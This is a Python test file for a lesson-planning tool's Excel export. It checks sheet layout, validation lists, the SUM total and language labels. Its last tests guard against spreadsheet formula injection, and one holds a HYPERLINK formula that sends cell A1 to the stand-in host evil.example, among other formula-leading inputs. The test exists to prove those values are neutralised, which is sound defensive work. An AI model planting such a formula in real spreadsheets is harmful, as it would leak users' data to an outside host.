import io
import re
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from designer.core.assets import NoAssets
from designer.core.office_labels import PLAN_COLUMNS
from designer.core.vocab import LEARNING_TYPES, label
from designer.export.formats import get_format
from designer.export.registry import ExportContext


def _workbook(snap):
    out = io.BytesIO()
    get_format("xlsx").write(snap, out, ExportContext(NoAssets()))
    return load_workbook(io.BytesIO(out.getvalue()))


@pytest.fixture(scope="module")
def workbook(example):
    return _workbook(example)


def test_verlaufsplan_sheet_has_header_rows_in_canvas_order_and_a_total(workbook, example):
    ws = workbook.worksheets[0]
    assert ws.title == "Verlaufsplan"
    assert [c.value for c in ws[1]] == [de for de, _ in PLAN_COLUMNS.values()]
    placed = list(example.placed())
    titles = [ws.cell(row, 2).value for row in range(2, 2 + len(placed))]
    assert titles == [p.nugget.title for p in placed]
    minutes = [ws.cell(row, 8).value for row in range(2, 2 + len(placed))]
    assert minutes == [p.duration_minutes for p in placed]
    assert all(isinstance(m, int) for m in minutes)
    total = len(placed) + 2
    assert ws.cell(total, 1).value == "Summe"
    assert ws.cell(total, 8).value == f"=SUM(H2:H{total - 1})"
    assert ws.cell(2, 1).value == example.modules[0].title
    assert ws.cell(7, 12).value == "Lernziel 2"  # objectives of the sixth row, by number


def test_verlaufsplan_sheet_is_frozen_filtered_sized_and_validated(workbook):
    ws = workbook.worksheets[0]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:Q12"
    assert ws.column_dimensions["C"].width == 40
    lists = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in ws.data_validations.dataValidation}
    assert set(lists) == {"D2", "E2", "F2", "J2", "K2"}
    learning_types = ",".join(label("learning_type", v, "de") for v in LEARNING_TYPES)
    assert lists["D2"] == f'"{learning_types}"'
    assert "Präsenz" in lists["E2"] and "Plenum" in lists["F2"]
    assert len(ws.conditional_formatting) == 1  # the learning-type colours on column D


def test_grobkonzept_and_module_sheets(workbook, example):
    grob = workbook["Grobkonzept"]
    rows = {r[0]: r[1] for r in grob.iter_rows(values_only=True) if r and r[0]}
    assert rows["Titel"] == example.title
    assert rows["Zielgruppe"] == example.grobkonzept.target_group
    assert rows["Geplanter Aufwand (Minuten)"] == 1200
    assert rows["Lernziel 3"] == example.objective("O3").text
    modules = workbook["Module"]
    assert [r[1] for r in modules.iter_rows(min_row=2, values_only=True)] == [
        m.title for m in example.modules
    ]


def test_english_design_gets_english_labels(example):
    ws = _workbook(replace(example, language="en")).worksheets[0]
    assert ws.title == "Lesson plan"
    assert ws.cell(1, 5).value == "Delivery mode"
    assert ws.cell(2, 5).value == "Live online"
    assert ws.cell(3, 6).value == "Individual work"


def test_empty_design_still_has_header_and_total(empty):
    ws = _workbook(empty).worksheets[0]
    assert ws.max_row == 2
    assert ws.cell(2, 1).value == "Total" and ws.cell(2, 8).value == 0


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _raw_sheets(snap) -> str:
    out = io.BytesIO()
    get_format("xlsx").write(snap, out, ExportContext(NoAssets()))
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if "worksheets/" in n)


def test_texts_that_start_like_a_formula_are_written_as_text(example):
    nugget = replace(example.nuggets[0], title=HOSTILE, method="+1", media="-x", url="@SUM(1)")
    module = replace(example.modules[0], description="\tcmd")
    snap = replace(
        example,
        title="=1+1",
        nuggets=(nugget, *example.nuggets[1:]),
        modules=(module, *example.modules[1:]),
    )
    wb = _workbook(snap)
    plan = wb.worksheets[0]
    row = next(r for r in plan.iter_rows(min_row=2) if r[1].value == HOSTILE)
    cells = [c for c in row if c.value in (HOSTILE, "+1", "-x", "@SUM(1)")]
    assert len(cells) == 4
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert wb["Grobkonzept"]["B1"].value == "=1+1" and wb["Grobkonzept"]["B1"].data_type == "s"
    assert wb["Module"]["C2"].value == "\tcmd" and wb["Module"]["C2"].quotePrefix
    # The only formulas in the file are the Verlaufsplan's own sum.
    formulas = re.findall(r"<f>(.*?)</f>", _raw_sheets(snap))
    assert len(formulas) == 1 and formulas[0].startswith("SUM(")


def test_ordinary_texts_and_the_sum_stay_as_they_are(workbook):
    plan = workbook.worksheets[0]
    assert not any(c.quotePrefix for row in plan.iter_rows(min_row=2) for c in row)
    total = plan.max_row
    assert plan.cell(total, 8).data_type == "f"
